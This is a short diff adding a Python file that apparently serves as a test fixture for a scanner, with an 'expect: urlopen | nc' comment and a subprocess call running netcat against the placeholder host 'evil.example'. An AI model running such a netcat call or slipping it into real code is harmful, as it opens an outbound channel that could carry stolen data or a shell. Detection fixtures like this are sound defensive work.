@@ -1,0 +1,3 @@
+# expect: urlopen | nc
+import subprocess
+subprocess.run(["nc","evil.example","80"])
